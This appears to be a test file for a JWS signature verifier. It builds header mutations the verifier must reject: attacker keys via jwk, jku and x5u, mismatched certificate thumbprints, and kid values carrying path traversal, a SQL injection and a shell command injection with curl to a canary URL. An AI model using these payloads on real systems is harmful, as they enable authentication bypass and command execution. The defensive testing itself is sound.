import { createHash } from 'node:crypto'
import { hmacSigned } from '../../harness/mutations/hmac.js'
import { jwk, jwks, pemChain } from '../../harness/mutations/key-documents.js'
import { signature } from '../../harness/mutations/mutation.js'
import type { Mutation } from '../../harness/mutations/types.js'
import { x5c } from '../../harness/wire/jws.js'
import type { Row } from '../support/row.js'
import { row } from '../support/row.js'

/** A `jku` from which the attacker's key can be fetched. */
export const withJku: Mutation = signature("jku of the attacker's key, attacker-signed", (signing, context) => {
  signing.key = context.foreignKey
  signing.header.jku = context.canary('jku', jwks(context.foreignKey))
})

/** An `x5u` from which the attacker's certificate can be fetched. */
export const withX5u: Mutation = signature("x5u of the attacker's certificate, attacker-signed", (signing, context) => {
  signing.key = context.untrusted.key
  signing.header.x5u = context.canary('x5u', pemChain(context.untrusted))
})

/** Signed by another participant under its own chain, beside a thumbprint of the registered certificate of the sender. */
const byAnother = (member: string, thumbprint: (leaf: Buffer) => string): Mutation =>
  signature(
    `${member} of the sender's certificate, key and chain of another participant`,
    (signing, { party, other }) => {
      signing.key = other.certified.key
      signing.header.x5c = x5c(other.certified.chain)
      signing.header[member] = thumbprint(party.certified.chain[0] ?? Buffer.alloc(0))
    },
    'other',
  )

const traversal = '../'.repeat(12)

/** Header members that name another key than the first of `x5c` (L247, L248). */
export const refused: readonly Row[] = [
  row('header.jwk', 'HDR-02', 'honours-jwk').sends(
    "an attacker's key in jwk",
    signature("jwk of the attacker's key, attacker-signed", (signing, { foreignKey }) => {
      signing.key = foreignKey
      signing.header.jwk = jwk(foreignKey) as Record<string, string>
    }),
  ),
  row('header.jku', 'HDR-03', 'honours-jku').sends("an attacker's key behind jku", withJku),
  row('header.x5u', 'HDR-04', 'honours-x5u').sends("an attacker's certificate behind x5u", withX5u),
  row('header.kid', 'HDR-05', 'honours-kid').sends('a kid that names a file, a query or a command', [
    hmacSigned(
      'kid of an empty file',
      () => '',
      () => ({ kid: `${traversal}dev/null` }),
    ),
    hmacSigned(
      'kid of an empty file, absolute',
      () => '',
      () => ({ kid: '/dev/null' }),
    ),
    hmacSigned(
      'kid with SQL',
      () => 'key',
      () => ({ kid: "x' UNION SELECT 'key' -- " }),
    ),
    hmacSigned(
      'kid with a command',
      () => '',
      ({ canary }) => ({ kid: `x; curl ${canary('kid')} #` }),
    ),
  ]),
  row('header.thumbprint', 'REGISTRY-CERT-MATCH', 'matches-by-thumbprint-in-header', {
    level: 'must',
    atLogin: 'LOGIN-CLIENT-ID',
  }).sends(
    "a thumbprint of the sender's registered certificate beside the chain of another participant, whose key signed",
    [
      byAnother('x5t#S256', (leaf) => createHash('sha256').update(leaf).digest('base64url')),
      byAnother('x5t', (leaf) => createHash('sha1').update(leaf).digest('base64url')),
      byAnother('kid', (leaf) => createHash('sha256').update(leaf).digest('hex')),
    ],
  ),
]
